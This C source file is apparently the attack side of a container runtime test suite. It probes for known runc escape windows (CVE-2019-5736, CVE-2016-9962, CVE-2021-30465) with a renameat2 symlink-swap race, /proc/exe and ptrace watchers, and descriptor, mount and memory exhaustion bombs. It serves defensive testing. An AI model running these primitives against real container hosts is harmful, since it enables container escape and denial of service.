/* SPDX-License-Identifier: MIT */
/* What a case lets run while the runtime works: races, and watchers of /proc. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "linux/sysnum.h"

#define EXCHANGE 2 /* RENAME_EXCHANGE */

/* CVE-2021-30465, CVE-2021-25741: a directory and a link in its place, by turns. */
static int do_swap(char **args)
{
	if (!args[0] || !args[1])
		return 2;
	for (;;) {
		if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], EXCHANGE) < 0 &&
			errno != ENOENT) {
			perror("attack swap");
			return 1;
		}
	}
}

static time_t after(char **args)
{
	return time(NULL) + (args[0] ? strtol(args[0], NULL, 10) : 10);
}

/* Calls look for each process but this one, once; it returns 0 for a success. Keeps in error what
 * it said last of one that was there. */
static bool look_at_all(int (*look)(const char *pid), const char *own, int *error)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	bool through = false;

	while (proc && !through && (entry = readdir(proc))) {
		int one = ENODATA;

		if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
			strcmp(entry->d_name, own) != 0)
			one = look(entry->d_name);
		through = one == 0;
		if (one != ENODATA && one != ENOENT && one != ESRCH)
			*error = one;
	}
	if (proc)
		closedir(proc);
	return through;
}

/* Until the time is up, or look had success. */
static int watch(const char *word, time_t end, int (*look)(const char *pid))
{
	int error = ENODATA;
	char own[16];

	snprintf(own, sizeof(own), "%d", (int)getpid());
	while (time(NULL) < end) {
		if (look_at_all(look, own, &error))
			return tell(word, 0);
	}
	return tell(word, error);
}

/* Is the file one of this container's own? Its programs lie on the file system of this one. */
static int is_ours(const struct stat *st)
{
	struct stat own;

	return stat("/proc/self/exe", &own) == 0 && own.st_dev == st->st_dev;
}

/* CVE-2019-5736: the program of a process on its way into the container is PID 1's. */
static int look_at_program(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return errno;
	if (fstat(fd, &st) < 0 || is_ours(&st)) {
		close(fd);
		return ENODATA;
	}
	close(fd);
	return 0;
}

static int do_watch_programs(char **args)
{
	return watch("watch-programs", after(args), look_at_program);
}

/* The same, but one that PID 1's program legally runs in (an entry point that leads to
 * /proc/self/exe): it may be seen, not written. */
static int look_at_writing(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (stat(path, &st) < 0)
		return errno;
	if (is_ours(&st))
		return ENODATA;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	if (fcntl(fd, F_GET_SEALS) >= 0 && (fcntl(fd, F_GET_SEALS) & F_SEAL_WRITE)) {
		close(fd);
		return EPERM;
	}
	close(fd);
	/* What runs is busy, and is no more when it has ended. */
	return open(path, O_WRONLY | O_CLOEXEC) >= 0 || errno == ETXTBSY ? 0 : errno;
}

static int do_watch_writing(char **args)
{
	return watch("watch-writing", after(args), look_at_writing);
}

/* CVE-2016-9962: descriptors of a process that is half way in. One that runs a program of ours has
 * arrived. */
static int look_at_descriptors(const char *pid)
{
	char path[64];
	struct stat st;
	int error = ENODATA;

	for (int fd = 3; fd < 64; fd++) {
		if (look_at_program(pid) == ENODATA)
			return ENODATA;
		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		if (stat(path, &st) == 0)
			return look_at_program(pid) == ENODATA ? ENODATA : 0;
		if (errno != ENOENT)
			error = errno;
	}
	return error;
}

static int do_watch_descriptors(char **args)
{
	return watch("watch-descriptors", after(args), look_at_descriptors);
}

/* Its root, while it is still the host's. */
static int look_at_root(const char *pid)
{
	char path[64];
	struct stat st;
	struct stat own;

	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	if (stat(path, &st) < 0)
		return errno;
	if (stat("/", &own) < 0)
		return errno;
	return st.st_dev == own.st_dev && st.st_ino == own.st_ino ? ENODATA : 0;
}

static int do_watch_roots(char **args)
{
	return watch("watch-roots", after(args), look_at_root);
}

/* A process that can be seized while it still has PID 1's rights. Its program tells which it is:
 * one of ours may be seized, we are its owner. */
static int look_by_ptrace(const char *pid)
{
	pid_t id = (pid_t)strtol(pid, NULL, 10);
	int is_program;

	if (ptrace(PTRACE_SEIZE, id, 0, 0) < 0)
		return errno;
	is_program = look_at_program(pid);
	(void)ptrace(PTRACE_INTERRUPT, id, 0, 0);
	(void)waitpid(id, NULL, 0x40000000); /* __WALL */
	(void)ptrace(PTRACE_DETACH, id, 0, 0);
	return is_program == 0 ? 0 : ENODATA;
}

static int do_watch_by_ptrace(char **args)
{
	return watch("watch-by-ptrace", after(args), look_by_ptrace);
}

/* Keys that are there are found by whoever has this keyring (keyrings(7)). */
static int session_keyring(char **args)
{
	long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);

	(void)args;
	if (id < 0) {
		perror("attack session-keyring");
		return 1;
	}
	printf("session keyring %ld\n", id);
	return 0;
}

const struct tool tools[] = {
	{"swap", "A B: exchanges the two for ever", do_swap},
	{"watch-programs", "SECONDS", do_watch_programs},
	{"watch-writing", "SECONDS", do_watch_writing},
	{"watch-descriptors", "SECONDS", do_watch_descriptors},
	{"watch-roots", "SECONDS", do_watch_roots},
	{"watch-by-ptrace", "SECONDS", do_watch_by_ptrace},
	{"advertise", "LINK SECONDS: says to be a router", advertise},
	{"session-keyring", "tells its number", session_keyring},
	{"take-descriptors", "WORKERS: all that there are, for ever", bomb_descriptors},
	{"take-memory", "KIB: so many KiB more each second, and says how many it has", take_memory},
	{"take-mounts", "as many as there may be, for ever", bomb_mounts},
	{NULL, NULL, NULL},
};
